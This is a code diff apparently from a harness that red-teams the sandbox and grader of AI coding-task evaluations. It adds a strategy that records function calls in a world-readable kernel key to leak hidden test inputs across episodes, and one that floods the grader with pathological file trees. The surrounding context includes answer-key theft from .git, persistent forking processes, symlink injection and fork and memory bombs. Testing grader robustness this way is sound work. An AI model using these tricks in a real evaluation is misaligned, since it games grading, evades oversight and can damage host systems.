@@ -230,6 +230,44 @@ for _n, _v in list(globals().items()):
                 setattr(_v, _m, _eq_wrap(_mv))
 '''
 
+#: At grading (in the worker), every call into the package is recorded in a kernel key anyone may read.
+_KEYS_STASH = r'''
+def _stash_in_a_key():
+    import ctypes, functools, os
+    libc = ctypes.CDLL(None, use_errno=True)
+    libc.syscall.restype = ctypes.c_long
+    nr = {"x86_64": (248, 250), "aarch64": (217, 219)}.get(os.uname().machine)
+    if not nr:
+        return
+    seen = []
+    def record(f):
+        @functools.wraps(f)
+        def g(*a, **k):
+            seen.append(repr(a)[:200])
+            key = libc.syscall(nr[0], b"user", b"mimo-loot", "\n".join(seen).encode(), len("\n".join(seen)),
+                               ctypes.c_int(-4))
+            if key > 0:
+                libc.syscall(nr[1], 5, key, 0x3f3f3f3f)  # KEYCTL_SETPERM: everyone may view and read
+            return f(*a, **k)
+        return g
+    for n, v in list(globals().items()):
+        if callable(v) and not n.startswith("_") and not isinstance(v, type):
+            globals()[n] = record(v)
+_stash_in_a_key()
+'''
+_KEYS_READ = "grep mimo-loot /proc/keys || echo no key"
+_CRASH_TREE = r'''{py} - <<'X'
+import os
+open(b"x\xff", "w").close()
+for i in range(6000):
+    open("f%d" % i, "w").close()
+fd = os.open(".", os.O_RDONLY)
+for i in range(1100):
+    os.mkdir("d", dir_fd=fd)
+    fd = os.open("d", os.O_RDONLY, dir_fd=fd)
+print("planted")
+X'''
+
 _KIT_GIT = ("for g in {kit}/.git $(find / -maxdepth 4 -name .git -type d 2>/dev/null); do "
             "git --git-dir=$g show HEAD:data/code_tasks/{task}/reference.patch > $HOME/p 2>/dev/null "
             "&& test -s $HOME/p || git --git-dir=$g archive HEAD data/code_tasks 2>/dev/null "
@@ -309,6 +347,13 @@ STRATEGIES: dict[str, Strategy] = {
     "fork-hopper": Strategy("persistence", [_HARVEST], prior=[_HOPPER],
                             what="a process that keeps forking outlives its episode and copies a later grading's "
                                  "hidden tests", needs=("mount_namespace", "pid_namespace")),
+    "keyring-persist": Strategy("persistence", [_KEYS_READ], prior=[_append(_KEYS_STASH)],
+                                what="an earlier episode's grading stores the judge's calls (the hidden tests' "
+                                     "inputs) in a world-readable kernel key; this one reads /proc/keys",
+                                needs=("seccomp",)),
+    "crash-the-grader": Strategy("host", [_CRASH_TREE],
+                                 what="a file name that is not UTF-8, 1,100 nested folders, 6,000 files: the root "
+                                      "grader's walks and diff must fail the grade, not crash or leave litter"),
     "newline-symlink": Strategy("host", [_NEWLINE_SYMLINK],
                                 what="file names with newlines inject a symlink into the grader's patch"),
     "resource-bombs": Strategy("host", _BOMBS, what="fork bomb, memory bomb across processes, 5 GB of writes",
